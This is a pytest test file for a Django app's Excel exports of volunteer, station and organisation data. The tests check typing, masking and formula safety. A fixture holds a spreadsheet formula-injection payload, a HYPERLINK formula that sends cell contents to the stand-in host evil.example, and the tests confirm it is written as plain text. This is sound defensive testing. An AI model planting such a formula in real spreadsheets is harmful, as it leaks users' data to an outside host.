"""Excel exports read back as a user's Excel would: typed cells, formats, masking, no formulas, frozen header."""

import datetime as dt
import io
import os
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from stations.models import Station
from volunteers.testing import make_activity, make_hours, make_volunteer
from wulian.exports import Column, Kind, display_width, write_workbook
from wulian.models import ReportJob, ReportStatus

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DANGEROUS = [FORMULA, "+86 139", "-2+3", "@SUM(A1)", "\tcmd", "\r=1+1"]
SHANGHAI_MIDNIGHT = dt.datetime(2023, 6, 30, 16, 30, tzinfo=dt.UTC)  # 2023-07-01 00:30 in Asia/Shanghai


def read(data: bytes):
    return load_workbook(io.BytesIO(data))


def download(response):
    assert response.status_code == 200, response
    return read(b"".join(response.streaming_content))


def by_header(ws) -> dict:
    """{header: [cells of that column below the header]}."""
    columns = {}
    for column in ws.iter_cols():
        columns[column[0].value] = list(column[1:])
    return columns


def column(columns: dict, word: str) -> list:
    """The cells of the one column whose header contains ``word``."""
    found = [cells for header, cells in columns.items() if word == header] or [
        cells for header, cells in columns.items() if word in str(header)
    ]
    assert len(found) == 1, (word, list(columns))
    return found[0]


# -- the writer ---------------------------------------------------------------------------------------------


@pytest.fixture
def workbook(tmp_path):
    columns = [
        Column("名称"), Column("人数", Kind.INTEGER), Column("时长", Kind.NUMBER), Column("金额", Kind.MONEY),
        Column("比例", Kind.PERCENT), Column("日期", Kind.DATE), Column("签到时间", Kind.DATETIME),
        Column("是否试点", Kind.YESNO), Column("备注"), "自动",
    ]
    rows = [
        ["滨河社区社工室", 12, Decimal("2.50"), Decimal("1234567.80"), Decimal("0.4567"), dt.date(2023, 6, 30),
         SHANGHAI_MIDNIGHT, True, None, dt.date(2024, 1, 2)],
        ["首善街道社会工作服务站（试点）", 0, None, Decimal("0"), None, None, None, False, "", Decimal("3.5")],
        *[[text, None, None, None, None, None, None, None, text, text] for text in DANGEROUS],
    ]
    path = tmp_path / "out.xlsx"
    assert write_workbook(str(path), [("站点与资金", columns, rows)]) == len(rows)
    return read(path.read_bytes())


def test_numbers_money_and_rates_are_numbers_with_their_formats(workbook):
    ws = workbook["站点与资金"]
    assert (ws["B2"].data_type, ws["B2"].value) == ("n", 12)
    assert (ws["C2"].data_type, ws["C2"].value) == ("n", 2.5)
    assert ws["D2"].value == 1234567.8 and ws["D2"].number_format == '#,##0.00"元"'
    assert ws["D3"].value == 0 and ws["D3"].number_format == '#,##0.00"元"'  # zero is a value, not empty
    assert ws["E2"].value == pytest.approx(0.4567) and ws["E2"].number_format == "0.0%"
    assert ws["J3"].value == 3.5


def test_dates_are_dates_and_times_are_in_shanghai(workbook):
    ws = workbook["站点与资金"]
    assert ws["F2"].is_date and ws["F2"].value == dt.datetime(2023, 6, 30)
    assert ws["F2"].number_format == 'yyyy"年"m"月"d"日"'
    assert ws["G2"].is_date and ws["G2"].value == dt.datetime(2023, 7, 1, 0, 30)
    assert ws["J2"].is_date and ws["J2"].value == dt.datetime(2024, 1, 2)  # typed by its value in an untyped column


def test_yes_no_reads_shi_fou_and_empty_stays_empty(workbook):
    ws = workbook["站点与资金"]
    assert (ws["H2"].value, ws["H3"].value) == ("是", "否")
    for ref in ("C3", "E3", "F3", "G3", "I2", "I3"):
        assert ws[ref].value is None, ref
    assert all(cell.value != "—" for row in ws.iter_rows() for cell in row)


@pytest.mark.parametrize("index", range(len(DANGEROUS)))
def test_text_that_looks_like_a_formula_is_written_as_text(workbook, index):
    ws = workbook["站点与资金"]
    for column in ("A", "I", "J"):
        cell = ws[f"{column}{4 + index}"]
        assert cell.data_type == "s", (column, cell.value)
        assert unescape(cell.value) == DANGEROUS[index]  # a CR is stored as _x000D_, as Excel does
        assert cell.quotePrefix  # stays text when the cell is edited in Excel
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)


def test_header_is_frozen_and_columns_fit_chinese_text(workbook):
    ws = workbook["站点与资金"]
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.b
    longest = display_width("首善街道社会工作服务站（试点）")
    assert longest == 30
    assert ws.column_dimensions["A"].width >= longest
    assert ws.column_dimensions["B"].width >= display_width("人数")  # a short column stays narrow
    assert ws.column_dimensions["B"].width < 15
    assert ws.column_dimensions["F"].width >= 14  # 2023年6月30日


def test_a_failed_export_leaves_no_file_behind(tmp_path):
    def rows():
        yield ["李秀英", "11010119900307123X"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        write_workbook(str(tmp_path / "out.xlsx"), [("志愿者", ["姓名", "身份证号"], rows())])
    assert os.listdir(tmp_path) == []


# -- list exports through the pages -------------------------------------------------------------------------


def test_volunteer_export_is_typed_masked_and_formula_safe(as_user, cast):
    make_volunteer(cast.binhe, name=FORMULA, id_number="11010119900307123X", phone="13812345678",
                   registered_on=dt.date(2023, 3, 1))
    wb = download(as_user("leader").get(reverse("volunteers:volunteer_list"), {"export": "xlsx"}))
    ws = wb.worksheets[0]
    assert ws.title == "志愿者"
    assert ws.freeze_panes == "A2"
    columns = by_header(ws)
    name = column(columns, "姓名")[0]
    assert (name.data_type, name.value) == ("s", FORMULA)
    assert column(columns, "证件号码")[0].value == "110101********123X"
    assert column(columns, "电话")[0].value == "138****5678"
    registered = column(columns, "注册日期")[0]
    assert registered.is_date and registered.value == dt.datetime(2023, 3, 1)
    assert column(columns, "社区")[0].value == "滨河社区"
    assert column(columns, "状态")[0].value == "在册"
    assert ws.column_dimensions[name.column_letter].width >= display_width(FORMULA)


def test_service_hours_export_has_numbers_dates_and_shanghai_times(as_user, cast):
    volunteer = make_volunteer(cast.binhe, name="王芳")
    activity = make_activity(cast.binhe, title="敬老院探访", date=dt.date(2023, 6, 30))
    make_hours(activity, volunteer, hours="2.50", checked_in_at=SHANGHAI_MIDNIGHT)
    wb = download(as_user("binhe").get(reverse("volunteers:servicehours_list"), {"export": "xlsx"}))
    columns = by_header(wb.worksheets[0])
    assert column(columns, "时长")[0].data_type == "n" and column(columns, "时长")[0].value == 2.5
    assert column(columns, "日期")[0].value == dt.datetime(2023, 6, 30)
    checked_in = column(columns, "签到")[0]
    assert checked_in.is_date and checked_in.value == dt.datetime(2023, 7, 1, 0, 30)
    assert column(columns, "签退")[0].value is None
    assert column(columns, "志愿者")[0].value == "王芳"


def test_station_export_writes_yes_no_numbers_and_empty_cells(as_user, cast):
    Station.objects.create(name="滨河社区社工室", tier="community_room", region=cast.binhe,
                           office_area=Decimal("45.5"), is_pilot=True)
    Station.objects.create(name="景贤社区社工室", tier="community_room", region=cast.jingxian)
    wb = download(as_user("shoushan").get(reverse("stations:station_list"), {"export": "xlsx"}))
    columns = by_header(wb.worksheets[0])
    rows = {cell.value: i for i, cell in enumerate(column(columns, "名称"))}
    binhe, jingxian = rows["滨河社区社工室"], rows["景贤社区社工室"]
    pilot = column(columns, "试点")
    assert (pilot[binhe].value, pilot[jingxian].value) == ("是", "否")
    area = column(columns, "面积")
    assert area[binhe].data_type == "n" and area[binhe].value == 45.5
    opened = column(columns, "建成时间")
    assert opened[jingxian].value is None
    assert all(c.value not in ("True", "False", "—") for cells in columns.values() for c in cells)


def test_organisation_summary_export_has_rates_as_percentages(as_user, cast):
    from organizations.models import SocialOrganization

    SocialOrganization.objects.create(name="滨河志愿服务队", region=cast.binhe, category="service", status="filed")
    SocialOrganization.objects.create(name="滨河舞蹈队", region=cast.binhe, category="culture_sports", status="filed")
    wb = download(as_user("shoushan").get(reverse("organizations:community_summary"), {"export": "xlsx"}))
    ws = wb.worksheets[0]
    columns = by_header(ws)
    names = [c.value for c in column(columns, "社区（村）")]
    row = names.index("滨河社区")
    share = column(columns, "占比")[row]
    assert share.value == 0.5 and share.number_format == "0.0%"
    meets = column(columns, "是否达标")[row]
    assert meets.value in ("是", "否")
    assert ws.freeze_panes == "A2"


def test_background_list_export_writes_the_same_typed_masked_sheet(
    as_user, cast, settings, django_capture_on_commit_callbacks
):
    settings.WULIAN_EXPORT_SYNC_ROWS = 1
    make_volunteer(cast.binhe, name="李秀英", id_number="11010119900307123X", phone="13812345678",
                   registered_on=dt.date(2023, 3, 1))
    make_volunteer(cast.binhe, name=FORMULA)
    client = as_user("leader")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("volunteers:volunteer_list"), {"export": "xlsx"})
    assert response.status_code == 302
    job = ReportJob.objects.get(user=cast.user_leader, report="list_export")
    assert job.status == ReportStatus.DONE, job.error
    columns = by_header(download(client.get(reverse("wulian:report_download", args=[job.pk]))).worksheets[0])
    people = {c.value: i for i, c in enumerate(column(columns, "姓名"))}
    li = people["李秀英"]
    assert column(columns, "证件号码")[li].value == "110101********123X"
    assert column(columns, "注册日期")[li].value == dt.datetime(2023, 3, 1)
    assert column(columns, "姓名")[people[FORMULA]].data_type == "s"
    # Nothing but the finished file is left in the report folder (no temporary files with ID numbers).
    folder = os.path.dirname(job.file.path)
    assert os.listdir(folder) == [os.path.basename(job.file.path)]


def test_a_column_can_declare_what_it_holds(cast, tmp_path):
    import django_tables2 as tables

    from stations.tables import StationTable
    from wulian.exports import table_export

    class PricedStationTable(StationTable):
        office_area = tables.Column(verbose_name="年度运转经费")
        office_area.excel_kind = Kind.MONEY

    Station.objects.create(name="滨河社区社工室", tier="community_room", region=cast.binhe, office_area=Decimal("12345.6"))
    queryset = Station.objects.filter(region=cast.binhe)
    columns, rows = table_export(PricedStationTable(queryset, user=cast.user_bureau), queryset)
    write_workbook(str(tmp_path / "out.xlsx"), [("站点", columns, rows)])
    cell = column(by_header(read((tmp_path / "out.xlsx").read_bytes()).worksheets[0]), "年度运转经费")[0]
    assert cell.value == 12345.6 and cell.number_format == '#,##0.00"元"'


def test_the_bench_judges_each_goal():
    import importlib.util
    from pathlib import Path

    spec = importlib.util.spec_from_file_location("bench", Path(__file__).parent.parent / "benchmarks" / "bench.py")
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    args = bench.parse_args(["--sizes", "0.1,1", "--rounds", "5"])
    assert args.scales == [1.0, 0.1]
    assert bench.size_spec(0.1)["hours"] * 10 == bench.size_spec(1)["hours"] == 1_012_500
    assert bench.size_spec(1)["activities"] == 59_400 and bench.size_spec(0.1)["communities"] == 90
    pages = {
        "staff": {1.0: {"median": 335, "status": 200}, 0.1: {"median": 80, "status": 200}},
        "home": {1.0: {"median": 72, "status": 200}, 0.1: {"median": 60, "status": 200}},
    }
    exports = {
        "project": {"median": 20.0, "cpu": 18.0, "growth_mb": 12, "rows": 200_000},
        "import_export": {"median": 52.0, "cpu": 50.0, "growth_mb": 747, "rows": 200_000},
        "openpyxl": {"median": 13.2, "cpu": 13.0, "growth_mb": 0, "rows": 200_000},
    }
    lines = bench.verdicts(pages, exports, {"growth_mb": 40, "rows": 1_012_500, "seconds": 90}, args.scales)
    assert lines[0] == "PASS  every page answers 200: 2 pages"
    assert lines[1].startswith("FAIL") and "staff 335 ms" in lines[1]
    assert lines[2].startswith("FAIL") and "staff 4.2×" in lines[2]
    assert lines[3].startswith("PASS") and "2.60×" in lines[3]
    assert lines[4].startswith("FAIL") and "1.52×" in lines[4]
    assert lines[-1].startswith("PASS") and "1,012,500 rows" in lines[-1]
    # A page that answers 404 (a wrong address) or 500 is a failed bench, however fast the error page is.
    pages["projects"] = {1.0: {"median": 5, "status": 404}, 0.1: {"median": 5, "status": 404}}
    assert bench.verdicts(pages, {}, None, args.scales)[0] == "FAIL  every page answers 200: not: projects"


def test_values_excel_cannot_hold_as_numbers_do_not_break_the_export(tmp_path):
    path = tmp_path / "out.xlsx"
    write_workbook(str(path), [("活动", [Column("日期", Kind.DATE), "比值"], [[dt.date(1, 1, 1), float("nan")]])])
    ws = read(path.read_bytes()).worksheets[0]
    assert ws["A2"].value == "0001-01-01"  # before Excel's calendar: kept as text, not a wrong date
    assert ws["B2"].value is None  # not a number: empty, never a #NUM! formula
